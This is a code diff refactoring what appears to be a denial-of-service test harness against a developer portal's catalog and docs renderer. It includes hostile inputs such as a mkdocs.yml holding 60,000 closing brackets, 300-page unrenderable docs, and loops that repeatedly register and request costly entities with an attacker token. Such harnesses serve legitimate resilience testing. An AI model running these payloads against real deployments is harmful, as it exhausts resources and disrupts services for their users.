@@ -1,5 +1,11 @@
 import { setTimeout as sleep } from 'node:timers/promises';
-import { countStatuses, post, type Attack, type Target } from './target.ts';
+import {
+  countStatuses,
+  post,
+  type Attack,
+  type Prepare,
+  type Target,
+} from './target.ts';
 
 const lines = (count: number, line: (at: number) => string) =>
   Array.from({ length: count }, (_, at) => line(at)).join('\n');
@@ -32,8 +38,15 @@ export const manifests = {
 };
 
 /** Has the catalog look at files that cost much, one after the other, as fast as it answers. */
-export const yaml: Attack = async (target, signal) => {
-  const base = await target.push(manifests);
+export const yaml: Prepare = async ({ push }) => {
+  const base = await push(manifests);
+  return (target, signal) => registerAll(target, { base, signal });
+};
+
+async function registerAll(
+  target: Target,
+  { base, signal }: { base: string; signal: AbortSignal },
+): Promise<string> {
   const answers = countStatuses();
   while (!signal.aborted) {
     for (const file of Object.keys(manifests)) {
@@ -50,13 +63,14 @@ export const yaml: Attack = async (target, signal) => {
     }
   }
   return `${answers}`;
-};
+}
 
 const pages = 300;
+const names = ['hostile-docs', 'hostile-refused'] as const;
 
 /** Docs of many pages that cannot be rendered in the end, so that they are not current after it either. */
 const docs = {
-  'catalog-info.yaml': component('hostile-docs'),
+  'catalog-info.yaml': component(names[0]),
   'mkdocs.yml': 'site_name: x\nstrict: true\nplugins: [techdocs-core]\n',
   'docs/index.md': '# Pages\n\n[nowhere](./nowhere.md)\n',
   ...Object.fromEntries(
@@ -73,7 +87,7 @@ const docs = {
 /** What is refused as soon as its mkdocs.yml has been read, after all of it has been fetched. */
 const refusedDocs = {
   ...docs,
-  'catalog-info.yaml': component('hostile-refused'),
+  'catalog-info.yaml': component(names[1]),
   'mkdocs.yml': `nav: ${']'.repeat(60_000)}`,
 };
 
@@ -81,26 +95,26 @@ const refusedDocs = {
 async function register(
   target: Target,
   files: Record<string, string>,
-  { name, signal }: { name: string; signal: AbortSignal },
+  name: string,
 ): Promise<void> {
   const base = await target.push(files);
   const body = { type: 'url', target: `${base}/catalog-info.yaml` };
+  const { signal } = new AbortController();
   const answer = await post(target, '/catalog/locations', { body, signal });
   if (!answer.ok) throw new Error(await answer.text());
   const entity = `${target.portal}/api/catalog/entities/by-name/component/default/${name}`;
   const headers = { authorization: `Bearer ${target.attacker}` };
-  while (!signal.aborted) {
-    const { status } = await fetch(entity, { headers, signal });
-    if (status === 200) return;
-    await sleep(1_000);
-  }
+  while ((await fetch(entity, { headers })).status !== 200) await sleep(1_000);
 }
 
 /** Ten pages at once that wait for docs to be rendered, again and again. */
-export const techdocs: Attack = async (target, signal) => {
-  const names = ['hostile-docs', 'hostile-refused'];
-  await register(target, docs, { name: names[0]!, signal });
-  await register(target, refusedDocs, { name: names[1]!, signal });
+export const techdocs: Prepare = async target => {
+  await register(target, docs, names[0]);
+  await register(target, refusedDocs, names[1]);
+  return openDocs;
+};
+
+const openDocs: Attack = async (target, signal) => {
   const headers = { authorization: `Bearer ${target.attacker}` };
   const answers = countStatuses();
   const one = async (at: number) => {
